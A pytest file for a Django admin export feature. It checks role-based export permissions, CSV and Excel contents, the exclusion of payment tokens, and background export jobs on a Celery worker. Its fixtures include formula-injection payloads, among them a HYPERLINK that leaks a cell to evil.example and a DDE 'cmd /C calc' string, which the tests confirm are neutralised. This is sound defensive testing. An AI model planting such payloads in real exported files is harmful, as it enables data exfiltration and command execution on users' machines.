"""Exports of the admin lists: who may export, what a file holds, formula cells made
text, and large exports run in the background (one through a real worker)."""

import csv
import io
import time
import uuid

import openpyxl
import pytest
import redis
from celery import Celery
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core import mail
from django.test import Client

from analytics.exports import EXPORTABLE, neutralise
from analytics.models import ExportJob, ExportStatus
from customers.models import Company, Customer
from tests import workers
from tests.admin.factories import OrderFactory
from tests.factories import CompanyFactory, CustomerFactory

WAIT_SECONDS = 90


def changelist(label: str) -> str:
    app_label, model_name = label.split(".")
    return f"/admin/{app_label}/{model_name}/"


def post_action(client: Client, url: str, action: str, ids=(), *, select_across=False):
    data = {"action": action, ACTION_CHECKBOX_NAME: [str(pk) for pk in ids], "index": 0}
    if select_across:
        data["select_across"] = "1"
    return client.post(url, data)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response).decode("utf-8"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1 775 555 0100", "'+1 775 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Pat = buyer", "Pat = buyer"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise_makes_formula_cells_text(value, expected):
    assert neutralise(value) == expected


@pytest.mark.django_db
def test_every_exportable_list_offers_the_export_to_managers_only(client_for):
    manager, agent = client_for("manager"), client_for("agent")
    for label in EXPORTABLE:
        page = manager.get(changelist(label))
        assert page.status_code == 200, label
        assert 'value="export_csv"' in page.content.decode(), label
        assert 'value="export_xlsx"' in page.content.decode(), label
    for label in ("orders.order", "customers.customer", "fulfillment.fulfillmentorder"):
        page = agent.get(changelist(label))
        assert page.status_code == 200, label
        assert "export_csv" not in page.content.decode(), label


@pytest.mark.django_db
def test_finance_exports_invoices_and_companies_warehouse_cannot_export(client_for):
    finance, warehouse = client_for("finance"), client_for("warehouse")
    assert 'value="export_csv"' in finance.get("/admin/customers/company/").content.decode()
    assert "export_csv" not in warehouse.get("/admin/inventory/stocklevel/").content.decode()


@pytest.mark.django_db
def test_an_export_posted_without_the_permission_sends_no_file(client_for):
    buyer = CustomerFactory(first_name="Kim")
    response = post_action(client_for("agent"), "/admin/customers/customer/", "export_csv",
                           [buyer.pk])  # fmt: skip
    assert response.status_code in (200, 302)
    assert not response.get("Content-Disposition")
    assert ExportJob.objects.count() == 0


@pytest.mark.django_db
def test_customers_export_to_csv_with_formula_cells_neutralised(client_for):
    hostile = CustomerFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
                              last_name="@SUM(1+1)", phone="+1 775 555 0100")  # fmt: skip
    plain = CustomerFactory(first_name="Pat", last_name="Plain")
    response = post_action(client_for("manager"), "/admin/customers/customer/", "export_csv",
                           [hostile.pk, plain.pk])  # fmt: skip
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="customers-' in response["Content-Disposition"]
    rows = csv_rows(response)
    header, body = rows[0], rows[1:]
    assert [row[header.index("id")] for row in body] == [str(hostile.pk), str(plain.pk)]
    first = dict(zip(header, body[0], strict=True))
    assert first["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert first["last_name"] == "'@SUM(1+1)"
    assert first["phone"] == "'+1 775 555 0100"
    assert dict(zip(header, body[1], strict=True))["last_name"] == "Plain"
    # nothing was written: an export changes no record
    assert Customer.objects.get(pk=hostile.pk).last_name == "@SUM(1+1)"


@pytest.mark.django_db
def test_the_orders_list_exports_the_lines_of_the_selected_orders(client_for):
    made, other = OrderFactory(lines=2), OrderFactory(lines=1)
    OrderFactory(lines=3)  # not selected
    response = post_action(client_for("manager"), "/admin/orders/order/", "export_lines_csv",
                           [made.pk, other.pk])  # fmt: skip
    assert response.status_code == 200
    assert 'filename="order-lines-' in response["Content-Disposition"]
    rows = csv_rows(response)
    header = rows[0]
    assert [(row[header.index("order")], row[header.index("line_number")]) for row in rows[1:]] == [
        (str(made.pk), "1"), (str(made.pk), "2"), (str(other.pk), "1"),
    ]  # fmt: skip


@pytest.mark.django_db
def test_orders_export_to_excel_without_secrets(client_for):
    made = OrderFactory(lines=2, ship_name="-Pat", payment_token="tok_secret")
    response = post_action(client_for("manager"), "/admin/orders/order/", "export_xlsx",
                           [made.pk])  # fmt: skip
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    values = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert values["number"] == made.number
    assert values["ship_name"] == "'-Pat"
    assert "payment_token" not in header
    assert "tok_secret" not in str([cell.value for cell in sheet[2]])


@pytest.mark.django_db
def test_a_large_export_becomes_a_job_with_progress_and_a_link(
    client_for, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.OMS_EXPORT_INLINE_ROWS = 2
    settings.MEDIA_ROOT = tmp_path
    first = CompanyFactory(name="=cmd|' /C calc'!A0")
    CompanyFactory(name="Beta")
    CompanyFactory(name="Gamma")
    CompanyFactory(name="Orbit")  # not found by the search
    manager = client_for("manager")
    # "Select all 3" on the searched list: one box ticked, and the whole list asked for.
    with django_capture_on_commit_callbacks(execute=True):
        response = post_action(manager, "/admin/customers/company/?q=a", "export_csv", [first.pk],
                               select_across=True)  # fmt: skip
    assert response.status_code == 302
    assert "Content-Disposition" not in response
    job = ExportJob.objects.get()
    assert (job.app_label, job.model_name, job.file_format) == ("customers", "company", "csv")
    assert job.query_string == "q=a"
    # Once committed, the job is queued; the test settings run tasks at once: the job is
    # done, and its file holds the list's rows.
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE
    assert (job.rows_done, job.rows_total, job.percent) == (3, 3, 100)
    assert mail.outbox[-1].to == [job.requested_by.email]
    assert f"/admin/analytics/exportjob/{job.pk}/download/" in mail.outbox[-1].body

    jobs_page = manager.get("/admin/analytics/exportjob/").content.decode()
    assert "Companies" in jobs_page
    assert 'value="100"' in jobs_page
    assert f"/exportjob/{job.pk}/download/" in jobs_page
    download = manager.get(f"/admin/analytics/exportjob/{job.pk}/download/")
    rows = csv_rows(download)
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert sorted(names) == sorted(["'=cmd|' /C calc'!A0", "Beta", "Gamma"])

    # Only the user who asked downloads it; others do not even see it listed.
    finance = client_for("finance")
    assert finance.get(f"/admin/analytics/exportjob/{job.pk}/download/").status_code == 404
    others_page = finance.get("/admin/analytics/exportjob/").content.decode()
    assert f"/exportjob/{job.pk}/download/" not in others_page
    assert client_for("agent").get("/admin/analytics/exportjob/").status_code == 403


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_a_large_export_runs_on_a_real_worker_and_emails_its_link(admin_user, tmp_path, settings):
    broker = redis.Redis.from_url(workers.REDIS_URL, socket_timeout=2)
    broker.ping()
    settings.MEDIA_ROOT = tmp_path / "media"
    mail_dir, log_path = tmp_path / "mail", tmp_path / "worker.log"
    mail_dir.mkdir()
    for number in range(5):
        CompanyFactory(name=f"+Company {number}")
    # What the list's export action writes for a large export, sent to a real worker.
    job = ExportJob.objects.create(
        requested_by=admin_user, app_label="customers", model_name="company",
        title="Companies", file_format="xlsx", query_string="o=1", rows_total=5,
    )  # fmt: skip
    queue = f"test-export-{uuid.uuid4().hex[:12]}"
    producer = Celery(broker=workers.REDIS_URL)
    try:
        with workers.celery_worker(
            queue, log_path, settings_module="tests.api.worker_settings",
            EMAIL_FILE_PATH=str(mail_dir), MEDIA_ROOT=str(settings.MEDIA_ROOT),
        ):  # fmt: skip
            producer.send_task("analytics.run_export", args=[job.pk], queue=queue)
            deadline = time.monotonic() + WAIT_SECONDS
            while time.monotonic() < deadline:
                job.refresh_from_db()
                if job.status in (ExportStatus.DONE, ExportStatus.FAILED):
                    break
                time.sleep(0.2)
    finally:
        broker.delete(queue)
    log = log_path.read_text(errors="replace")[-3000:] if log_path.exists() else ""
    assert job.status == ExportStatus.DONE, f"{job.error}\n{log}"
    assert (job.rows_done, job.rows_total) == (5, 5)
    sent = "".join(path.read_text() for path in mail_dir.iterdir())
    assert f"/admin/analytics/exportjob/{job.pk}/download/" in sent

    client = Client()
    client.force_login(admin_user)
    download = client.get(f"/admin/analytics/exportjob/{job.pk}/download/")
    assert download.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download))).active
    header = [cell.value for cell in sheet[1]]
    names = sorted(
        row[header.index("name")] for row in sheet.iter_rows(min_row=2, values_only=True)
    )
    assert names == [f"'+Company {number}" for number in range(5)]
    assert Company.objects.filter(name__startswith="+Company").count() == 5
    assert admin.site.get_model_admin(Company)
